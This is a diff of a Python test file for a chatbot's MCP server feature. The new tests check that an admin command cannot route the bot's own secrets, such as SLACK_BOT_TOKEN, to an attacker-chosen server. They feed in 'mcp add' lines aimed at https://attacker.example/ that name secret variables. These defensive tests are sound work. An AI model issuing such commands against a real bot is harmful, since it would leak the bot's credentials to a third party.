@@ -22,7 +22,7 @@ from tests.openai_emulator import OpenAIEmulator, Turn
 from tests.openai_emulator_mcp import McpApprovalRequest, McpCall, McpListTools, approval_responses
 from tests.slack_emulator import SlackEmulator
 from tests.slack_emulator_blocks import block_actions, buttons_of
-from tests.slack_emulator_events import JSON, Message
+from tests.slack_emulator_events import JSON, TEAM_ID, Message
 from tests.slack_fixtures import *  # noqa: F403
 from tests.slack_fixtures import ALICE, BOB, SlackBot
 
@@ -33,14 +33,14 @@ pytest_plugins = ["tests.discord_fixtures"]
 
 TOKEN = "Bearer mcp-9f3c2e71d5a8-secret"
 SERVER = "https://mcp.example.com/mcp"
-ADD = f"mcp add deploys {SERVER} tools=restart,status header=Authorization:DEPLOYS_TOKEN"
+ADD = f"mcp add deploys {SERVER} tools=restart,status header=Authorization:MCP_DEPLOYS_TOKEN"
 
 
 @pytest.fixture
 def deploys_token(monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture) -> None:
     """The header's value, in the environment only; every log line captured (the OpenAI SDK's
     request dumps too), through the filter the bot's logging installs."""
-    monkeypatch.setenv("DEPLOYS_TOKEN", TOKEN)
+    monkeypatch.setenv("MCP_DEPLOYS_TOKEN", TOKEN)
     caplog.handler.addFilter(RedactSecrets())
     caplog.set_level(logging.DEBUG)
     caplog.set_level(logging.DEBUG, logger="openai")
@@ -73,7 +73,8 @@ async def slack_prompt(
     bot: SlackBot = await make_slack_bot(**settings)
     added = command_text(await bot.command(ADD))
     assert (
-        added.startswith("MCP server deploys added") and "Authorization ← $DEPLOYS_TOKEN" in added
+        added.startswith("MCP server deploys added")
+        and "Authorization ← $MCP_DEPLOYS_TOKEN" in added
     )
     emulator.script(*turns)
     asked = await bot.mention("restart the web service")
@@ -200,7 +201,7 @@ async def test_discord_approval_by_the_asker_continues_the_answer(
         label="deploys",
         url=SERVER,
         tools="restart,status",
-        header="Authorization:DEPLOYS_TOKEN",
+        header="Authorization:MCP_DEPLOYS_TOKEN",
     )
     assert added.startswith("MCP server deploys added") and TOKEN not in added
     request = McpApprovalRequest("deploys", "restart", {"service": "web"})
@@ -242,8 +243,8 @@ def test_a_header_value_read_for_a_request_is_redacted_from_every_log_line(
     from bot.mcp import mcp_tool
     from storage.records import McpServer
 
-    monkeypatch.setenv("OTHER_TOKEN", "tok-4c1d9e2b77aa")
-    server = McpServer("slack", "T1", "", "x", SERVER, headers={"X-Key": "OTHER_TOKEN"})
+    monkeypatch.setenv("MCP_OTHER_TOKEN", "tok-4c1d9e2b77aa")
+    server = McpServer("slack", "T1", "", "x", SERVER, headers={"X-Key": "MCP_OTHER_TOKEN"})
     assert mcp_tool(server)["headers"] == {"X-Key": "tok-4c1d9e2b77aa"}
     record = logging.LogRecord(
         "x", logging.INFO, __file__, 1, "sent %s", ({"X-Key": "tok-4c1d9e2b77aa"},), None
@@ -278,12 +279,12 @@ async def test_mcp_add_explains_what_is_wrong(
     async def add(line: str) -> str:
         return command_text(await bot.command(line))
 
-    missing = await add(f"mcp add deploys {SERVER} header=Authorization:NOT_SET_ANYWHERE")
-    assert missing == t("en", "mcp.missing_env", variable="NOT_SET_ANYWHERE", label="deploys")
+    missing = await add(f"mcp add deploys {SERVER} header=Authorization:MCP_NOT_SET_ANYWHERE")
+    assert missing == t("en", "mcp.missing_env", variable="MCP_NOT_SET_ANYWHERE", label="deploys")
     assert await add("mcp add deploys ftp://x") == t("en", "mcp.bad_url", url="ftp://x")
     typed_secret = await add(f"mcp add deploys {SERVER} header=Authorization:Bearer-abc")
     assert typed_secret.startswith(
-        "“header=Authorization:Bearer-abc” should be header=NAME:ENV_VAR"
+        "“header=Authorization:Bearer-abc” should be header=NAME:MCP_VAR"
     )
     assert await add("mcp list") == "No MCP servers for the whole workspace."
     assert (await add(ADD)).startswith("MCP server deploys added")
@@ -308,7 +309,7 @@ async def test_discord_deny_and_expiry_on_an_ask(
         classroom.general,
         label="deploys",
         url=SERVER,
-        header="Authorization:DEPLOYS_TOKEN",
+        header="Authorization:MCP_DEPLOYS_TOKEN",
     )
     denied_request = McpApprovalRequest("deploys", "restart", {"service": "web"})
     expiring_request = McpApprovalRequest("deploys", "restart", {"service": "db"})
@@ -388,3 +389,53 @@ async def test_an_admin_may_answer_where_the_server_says_so(
     assert bot.texts(asked)[1] == "Web restarted."
     [decided] = await bot.store.approval_group(request.id)
     assert (decided.user, decided.decided_by) == (BOB, ALICE)
+
+
+async def test_mcp_add_takes_header_values_only_from_mcp_variables_and_over_https(
+    make_slack_bot: Any,
+    slack: SlackEmulator,
+    deploys_token: None,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """An admin cannot make OpenAI send the bot's own secrets to a server of their choosing:
+    a variable not named MCP_… is refused alike whether it is set or not, and headers need
+    https."""
+    monkeypatch.setenv("BOT_OWN_SECRET", "own-secret-5e8a0c")
+    slack.users[ALICE] = {"is_admin": True}
+    bot: SlackBot = await make_slack_bot()
+
+    async def add(line: str) -> str:
+        return command_text(await bot.command(line))
+
+    for variable in ("BOT_OWN_SECRET", "SLACK_BOT_TOKEN", "NOT_SET_ANYWHERE", "MCP_"):
+        refused = await add(f"mcp add x https://attacker.example/ header=Authorization:{variable}")
+        assert refused == t("en", "mcp.header_env_prefix", variable=variable)
+    plain = await add("mcp add x http://attacker.example/ header=Authorization:MCP_DEPLOYS_TOKEN")
+    assert plain == t("en", "mcp.headers_need_https", label="x")
+    assert await bot.store.mcp_servers("slack", TEAM_ID, [""]) == []
+    assert (await add("mcp add x http://tools.example/")).startswith("MCP server x added")
+    assert "MCP_" in t("en", "mcp.usage") and "MCP_" in t("ko", "mcp.usage")
+
+
+async def test_a_stored_server_naming_a_non_mcp_variable_is_left_out(
+    make_slack_bot: Any,
+    emulator: OpenAIEmulator,
+    slack: SlackEmulator,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """A server saved before the MCP_ rule, naming another variable: the request leaves it
+    out with the notice of a missing variable, and the value goes nowhere."""
+    from storage.records import McpServer
+
+    monkeypatch.setenv("BOT_OWN_SECRET", "own-secret-5e8a0c")
+    bot: SlackBot = await make_slack_bot()
+    old = McpServer("slack", TEAM_ID, "", "x", SERVER, headers={"X-Key": "BOT_OWN_SECRET"})
+    await bot.store.save_mcp_server(old)
+    emulator.script(Turn().text("Done without it."))
+    asked = await bot.mention("hello")
+    await bot.answers()
+    [reply] = bot.texts(asked)
+    assert t("en", "mcp.missing_env_now", label="x", variable="BOT_OWN_SECRET") in reply
+    [request] = emulator.response_requests()
+    assert all(tool["type"] != "mcp" for tool in request.get("tools") or [])
+    assert "own-secret-5e8a0c" not in str(request)
